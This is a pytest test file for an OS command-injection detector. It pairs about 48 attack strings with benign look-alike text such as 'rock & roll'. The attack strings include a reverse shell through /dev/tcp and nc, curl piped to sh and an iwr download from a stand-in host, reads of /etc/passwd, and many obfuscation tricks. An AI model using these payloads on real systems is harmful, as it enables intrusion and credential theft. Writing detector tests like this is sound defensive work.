"""OS command injection: separators, substitutions, evasions, and ordinary prose."""

from __future__ import annotations

import pytest

from vigil.signatures.command import detect_command
from vigil.signatures.detection import Attack

ATTACKS = [
    ("; cat /etc/passwd", "';' then command cat"),
    ("| id", "'|' then command id"),
    ("a;id", "';' then command id"),
    ("x || whoami", "'||' then command whoami"),
    ("&& c'u'rl http://x.test/s | sh", "'&&' then command curl"),
    ("x|nc -e /bin/sh 192.0.2.1 80", "'|' then command nc"),
    ("1\nwget http://x.test/a", "'newline' then command wget"),
    ("$(whoami)", "substitution command whoami"),
    ("`id`", "substitution command id"),
    ("x`uname -a`", "substitution command uname"),
    ("; ca\\t /etc/hosts", "';' then command cat"),
    ("& ping -c 3 127.0.0.1", "'&' then command ping"),
    ("| type c:\\boot.ini", "'|' then command type"),
    ("1;sleep 5", "';' then command sleep"),
    ("curl http://x.test/s.sh", "value starts with command curl"),
    ("x${IFS}cat${IFS}/etc/passwd", "shell construct"),
    ("() { :; }; echo vulnerable", "shell construct"),
    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "shell construct"),
    ("cmd /c dir", "shell construct"),
    ("powershell -enc SQBFAFgA", "shell construct"),
    ("x&#59;id", "';' then command id"),
    ("a&#x7c;&#x7c; whoami", "'||' then command whoami"),
    ("time sh -c whoami", "value starts with command sh"),
    ("x; nohup sh -c id", "';' then command sh"),
    ("cpulimit -l 100 -f whoami", "value starts with command whoami"),
    ("x;flock -u / whoami", "';' then command whoami"),
    ("strace ifconfig", "value starts with command ifconfig"),
    ("env X=1 bash -i", "value starts with command bash"),
    (";`cat<<<ifconfig`", "substitution command cat"),
    ("x;c$!at /et$!c/pas$!swd", "';' then command cat"),
    ("x;cat$u /etc$u/passwd", "';' then command cat"),
    ("x;c$!at+/et$!c/pas$!swd", "';' then command cat"),
    (";$a cat $a /etc/hosts", "';' then command cat"),
    ("pi``ng 127.0.0.1", "value starts with command ping"),
    ("pi$()ng 127.0.0.1", "value starts with command ping"),
    ("$(cat$() /etc/hosts)", "substitution command cat"),
    ('"w"get localhost', "value starts with command wget"),
    ("w'h'o'a'm'i", "value starts with command whoami"),
    ('""p""y""t""h""o""n""3"".""1""0', "value starts with command python"),
    ('$SHELL -c "echo hi"', "value starts with command sh"),
    (";iwr http://x.test/a.ps1", "';' then command iwr"),
    ("; regedit /E c:\\a.reg HKEY_CURRENT_USER", "';' then command regedit"),
    ("x; ansible all -m ping", "';' then command ansible"),
    ("/???/??t /e??/p?ss??", "wildcards for /bin/cat"),
    ("x;cat /et*/*wd", "wildcards for /etc/passwd"),
    ("for /f %i in ('dir /b') do echo %i", "cmd.exe FOR loop"),
    ("Invoke-Expression -Command x.ps1", "PowerShell command"),
    ("{,ip,a}", "brace expansion"),
]

BENIGN = [
    "rock & roll",
    "Tom & Jerry",
    "Tom & cat",
    "R&D; id card required",
    "cats | dogs",
    "Run `ls -la` to list files",
    "python is great",
    "sudo make me a sandwich",
    "I need some; sleep now",
    "search?a=1&b=2",
    "Q&A",
    "hours: 9-5 | weekends closed",
    "salt; pepper; more salt",
    "W&#261;growiec",
    "&#21271;&#20140;&#24066;w&#24231; 5&#21495;",
    "Ma&#322;gorzata &amp; W&#281;grzyn",
    "&#x5317;W&#x5ea7;",
    "I'd like that",
    "don't; it's late",
    "who's there? he'd know",
    "O'keefe's",
    'That\'s two "O"s in goose',
    "time flies like an arrow",
    "time who knows",
    "nice day; env production",
    "US$5 (approx.)",
    "python is great",
    "see /etc/* for config",
    "/home/user/*.txt",
    "What?/Why?",
    "Wall Street's benchmark",
    "cost 100 EUR; at 5pm",
    "I love C++; g++ too",
]


@pytest.mark.parametrize(("value", "reason"), ATTACKS, ids=[a for a, _ in ATTACKS])
def test_attacks_are_detected_with_their_reason(value: str, reason: str) -> None:
    found = detect_command(value)
    assert found is not None, value
    assert found.kind is Attack.COMMAND
    assert found.reason == reason


@pytest.mark.parametrize("value", BENIGN)
def test_look_alikes_pass(value: str) -> None:
    assert detect_command(value) is None
